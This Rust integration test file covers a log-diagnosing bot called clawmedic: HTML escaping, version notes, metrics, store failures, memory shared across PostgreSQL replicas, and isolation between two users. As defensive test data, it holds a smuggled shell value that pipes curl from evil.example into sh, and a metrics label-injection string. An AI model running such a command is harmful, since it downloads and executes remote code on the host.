    let page = String::from_utf8(page).unwrap();
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert!(page.contains(r#"<p class="error" role="alert">"#), "{page}");
    let kept = clawmedic::ingest::redact(&paste);
    let escaped = kept
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;");
    assert!(page.contains(&format!(r#"dir="ltr">{escaped}</textarea>"#)), "{page}");
    assert!(page.contains("Probed 2 targets"), "the paste is back in the form");
    assert!(!page.contains(key) && !page.contains("<b>x</b>"), "no secret, nothing unescaped");
    // A version as `openclaw --version` prints it, different from the paste's 2026.5.12.
    let form = format!(
        "paste={}&lang=&version={}&ui=en",
        form_urlencode(PROBE_PASTE),
        form_urlencode("OpenClaw 2026.6.9 (c645ec4)")
    );
    let (s, _, page) = send(&app, form_post(form)).await;
    let page = String::from_utf8(page).unwrap();
    assert_eq!(s, StatusCode::OK);
    assert!(page.contains(r#"<p class="version">OpenClaw 2026.6.9 (as given).</p>"#), "{page}");
    assert!(page.contains(r#"<p class="note" role="note">You gave OpenClaw 2026.6.9, but the paste shows 2026.5.12; this reply uses 2026.6.9, the version you gave.</p>"#), "{page}");
    assert!(
        page.contains(r#"value="OpenClaw 2026.6.9 (c645ec4)""#),
        "the field keeps what was typed"
    );
    assert!(!page.contains("Probed 2 targets"), "after a diagnosis the paste is not echoed");
}

fn form_urlencode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char);
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

#[tokio::test]
async fn health_readiness_and_metrics() {
    let st = memory_state("http://127.0.0.1:9");
    let app = app(&st);
    let get = |p: &str| Request::builder().uri(p).body(Body::empty()).unwrap();
    assert_eq!(send_json(&app, get("/healthz")).await, (StatusCode::OK, json!({ "status": "ok" })));
    assert_eq!(
        send_json(&app, get("/readyz")).await,
        (StatusCode::OK, json!({ "status": "ready" }))
    );
    assert_eq!(
        send_json(&app, get("/no/such/page?q=sam.lee")).await,
        (StatusCode::NOT_FOUND, json!({ "error": "not_found" }))
    );
    // A diagnosis through each door, with user text (an e-mail, a hostile label) in the paste.
    let payload =
        diagnose(1_310_000_000_000_001_050, 1_310_000_000_000_002_050, "zh-TW", PROBE_PASTE);
    send(&app, signed_request(&signing_key(), now(), body_of(&payload))).await;
    let hostile = format!("{PROBE_PASTE}\nlabel=\"}} evil{{\"");
    send(&app, api_request(json!({ "paste": hostile, "lang": "zh-TW" }), "192.0.2.4")).await;
    let (s, headers, text) = send(&app, get("/metrics")).await;
    let text = String::from_utf8(text).unwrap();
    assert_eq!(s, StatusCode::OK);
    assert!(headers[header::CONTENT_TYPE]
        .to_str()
        .unwrap()
        .starts_with("application/openmetrics-text"));
    for want in [
        r#"clawmedic_http_requests_total{route="interactions",method="POST",status="200"} 1"#,
        r#"clawmedic_http_requests_total{route="api_diagnose",method="POST",status="200"} 1"#,
        r#"clawmedic_http_requests_total{route="other",method="GET",status="404"} 1"#,
        r#"clawmedic_diagnoses_total{front_door="interactions",cause="session_pin_stale",locale="en"} 1"#,
        r#"clawmedic_diagnoses_total{front_door="api",cause="session_pin_stale",locale="zh-TW"} 1"#,
        r#"clawmedic_interactions_total{kind="command",response="immediate"} 1"#,
        "clawmedic_http_request_duration_seconds_bucket{le=",
        "clawmedic_diagnosis_duration_seconds_count{front_door=\"api\"} 1",
        r#"clawmedic_store_duration_seconds_count{op="load"}"#,
    ] {
        assert!(text.contains(want), "missing {want} in\n{text}");
    }
    for never in ["sam.lee", "example.net", "evil", "/no/such", "openai-codex"] {
        assert!(!text.contains(never), "user text {never:?} leaked into metrics");
    }
}

#[tokio::test]
async fn readiness_fails_when_the_store_is_down_and_errors_are_counted() {
    let st = state(config("http://127.0.0.1:9"), Arc::new(FailingStore::new()));
    let app = app(&st);
    let get = |p: &str| Request::builder().uri(p).body(Body::empty()).unwrap();
    assert_eq!(
        send_json(&app, get("/readyz")).await,
        (StatusCode::SERVICE_UNAVAILABLE, json!({ "status": "store_unavailable" }))
    );
    // Interactions still get a reply (without memory).
    let payload =
        diagnose(1_310_000_000_000_001_060, 1_310_000_000_000_002_060, "en-US", PROBE_PASTE);
    let (s, v) = send_json(&app, signed_request(&signing_key(), now(), body_of(&payload))).await;
    assert_eq!((s, v["type"].clone()), (StatusCode::OK, json!(4)));
    let m = st.metrics.encode();
    assert!(m.contains(r#"clawmedic_store_errors_total{op="ping",kind="error"} 1"#), "{m}");
    assert!(m.contains(r#"clawmedic_store_errors_total{op="load",kind="error"} 1"#), "{m}");
    assert!(m.contains(r#"clawmedic_store_errors_total{op="append",kind="error"} 1"#), "{m}");
}

// ---------------------------------------------------------------------------------------------
// Two replicas, one PostgreSQL

fn pg_url() -> Option<String> {
    match std::env::var("DATABASE_URL_PG").ok().filter(|u| !u.trim().is_empty()) {
        Some(u) => Some(u),
        None if std::env::var_os("CI").is_some() => {
            panic!("CI is set but DATABASE_URL_PG is not: .ci/run must start PostgreSQL (scripts/start-postgres.sh)")
        }
        None => {
            eprintln!(
                "SKIPPED two_replicas_share_thread_memory_through_postgres: DATABASE_URL_PG is not set \
                 (run `eval \"$(bash scripts/start-postgres.sh)\"` first)"
            );
            None
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_replicas_share_thread_memory_through_postgres() {
    let Some(url) = pg_url() else { return };
    // Two replicas: two routers, each with its own connection pool and its own state.
    let a = state(
        config("http://127.0.0.1:9"),
        clawmedic::store::connect(&url).await.expect("replica A connects"),
    );
    let b = state(
        config("http://127.0.0.1:9"),
        clawmedic::store::connect(&url).await.expect("replica B connects"),
    );
    let (ra, rb) = (app(&a), app(&b));
    // A channel no earlier run used.
    let nanos =
        std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos()
            as u64;
    let channel = 1_400_000_000_000_000_000
        + (nanos % 1_000_000_000_000) * 1000
        + u64::from(std::process::id() % 1000);
    let mut id = 1_320_000_000_000_000_000 + (nanos % 1_000_000_000);
    let mut next = |paste: &str| {
        id += 1;
        signed_request(&signing_key(), now(), body_of(&diagnose(id, channel, "en-US", paste)))
    };
    // Alternately: the banner on A, the probe on B — B's reply must know A's message.
    let (s, r1) = send_json(&ra, next(BANNER)).await;
    assert_eq!(s, StatusCode::OK);
    assert_ne!(footer(&r1), "clawmedic · session_pin_stale · en");
    let (_, r2) = send_json(&rb, next(PROBE_ONLY)).await;
    assert_eq!(
        footer(&r2),
        "clawmedic · session_pin_stale · en",
        "replica B read replica A's memory"
    );
    assert!(r2.to_string().contains(PIN));
    let (_, _) = send_json(&ra, next(VERSION_LINE)).await;
    let (_, _) = send_json(&rb, next(AUTH_ORDER)).await;
    // Then at the same time on both replicas, three rounds.
    let pastes = [BANNER, PROBE_ONLY, VERSION_LINE, AUTH_ORDER, BANNER, PROBE_ONLY];
    for pair in pastes.chunks(2) {
        let (qa, qb) = (next(pair[0]), next(pair[1]));
        let ((sa, _), (sb, _)) = tokio::join!(send_json(&ra, qa), send_json(&rb, qb));
        assert_eq!((sa, sb), (StatusCode::OK, StatusCode::OK));
    }
    // Nothing lost: ten messages counted; every fact once (a paste sent again moves its facts
    // to its newest message: memory is deduplicated), and the last round's two messages hold
    // theirs.
    let check = clawmedic::store::connect(&url).await.unwrap();
    let mem =
        check.load(&ThreadKey::discord(channel)).await.unwrap().expect("the thread is remembered");
    assert_eq!(mem.messages, 10, "every message of both replicas is remembered");
    let mut distinct: Vec<String> =
        mem.facts.iter().map(|f| serde_json::to_string(&(&f.quote, &f.fact)).unwrap()).collect();
    distinct.sort();
    distinct.dedup();
    assert_eq!(distinct.len(), mem.facts.len(), "each fact once: {:?}", mem.facts);
    for n in [9, 10] {
        assert!(
            mem.facts.iter().any(|f| f.loc.message == n),
            "message {n} has its evidence: {:?}",
            mem.facts
        );
    }
    assert!(mem.facts.iter().all(|f| (1..=10).contains(&f.loc.message)));
    assert_eq!(mem.version.as_deref(), Some("2026.5.12"));
    let m = format!("{}{}", a.metrics.encode(), b.metrics.encode());
    assert!(!m.contains(r#"clawmedic_store_errors_total{op="append""#), "no append failed: {m}");
}

// ---------------------------------------------------------------------------------------------
// Command registration at startup (optional: needs a bot token)

#[tokio::test]
async fn serve_registers_the_gateway_bots_commands_when_it_has_a_token() {
    let hook = FakeWebhook::start().await;
    let mut cfg = config(&hook.base);
    let client = reqwest::Client::new();
    assert!(
        !clawmedic::http::register_commands(&cfg, &client).await.unwrap(),
        "no token: nothing to do"
    );
    cfg.discord_token = Some(clawmedic::config::Secret::new("test-token"));
    cfg.dev_guild_id = Some(GUILD_ID);
    assert!(clawmedic::http::register_commands(&cfg, &client).await.unwrap());
    let hits = hook.hits();
    assert_eq!(hits.len(), 1);
    assert_eq!(
        (hits[0].method.as_str(), hits[0].path.clone()),
        ("PUT", format!("/api/v10/applications/{APP_ID}/guilds/{GUILD_ID}/commands"))
    );
    assert_eq!(hits[0].body, clawmedic::app::interactions::command_definitions(&cfg.settings));
}

/// Security review H2 through the HTTP interactions endpoint: two users in one ordinary text
/// channel (type 0). B's reply is what B's paste alone gives, B's autocomplete offers none of
/// A's profiles, and each has their own memory.
#[tokio::test]
async fn two_users_in_one_text_channel_never_see_each_others_paste() {
    let st = memory_state("http://127.0.0.1:9");
    let channel = 1_310_000_000_000_002_077;
    let as_user = |mut v: Value, user: u64| {
        v["channel"]["type"] = json!(0);
        v["channel"].as_object_mut().unwrap().remove("parent_id");
        v["member"]["user"]["id"] = json!(user.to_string());
        v
    };
    let (alice, bob) = (USER_ID, USER_ID + 1);
    let a_paste = format!("{PROBE_PASTE}\nUnknown provider \"x;{{curl,-s,evil.example}}|sh\". Loaded providers: openai");
    let a = as_user(diagnose(1_310_000_000_000_001_071, channel, "en-US", &a_paste), alice);
    let (status, a_reply) =
        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&a))).await;
    assert_eq!(status, StatusCode::OK);
    assert!(a_reply.to_string().contains(PIN), "A's reply uses A's paste");
    let benign = "⚠️ Model login expired on the gateway for openai-codex. Re-auth with `openclaw models auth login --provider openai-codex`, then try again.";
    let b = as_user(diagnose(1_310_000_000_000_001_072, channel, "en-US", benign), bob);
    let (_, b_reply) =
        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&b))).await;
    // Exactly what a bot with no memory answers for B's paste.
    let stateless = Deps::new(Arc::new(MemoryStore::new()), BotSettings::default()).expect("deps");
    assert_eq!(b_reply, handle_interaction(&stateless, &typed(&b)).await.response.to_value());
    for leaked in [PIN, "evil.example", "curl", "message 2"] {
        assert!(!b_reply.to_string().contains(leaked), "{leaked} of A's paste in B's reply");
    }
    let ac = as_user(autocomplete_profile(1_310_000_000_000_001_073, channel, ""), bob);
    let (_, choices) =
        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&ac))).await;
    assert_eq!(choices, json!({ "type": 8, "data": { "choices": [] } }));
    let ac = as_user(autocomplete_profile(1_310_000_000_000_001_074, channel, ""), alice);
    let (_, choices) =
        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&ac))).await;
    assert!(
        !choices["data"]["choices"].as_array().unwrap().is_empty(),
        "A sees A's profiles: {choices}"
    );
    let key = |u| clawmedic::app::conversation::key_for(channel, false, Some(u)).unwrap();
    assert_eq!(st.store.load(&key(alice)).await.unwrap().unwrap().messages, 1);
    assert_eq!(st.store.load(&key(bob)).await.unwrap().unwrap().messages, 1);
    assert!(st.store.load(&ThreadKey::discord(channel)).await.unwrap().is_none());
}
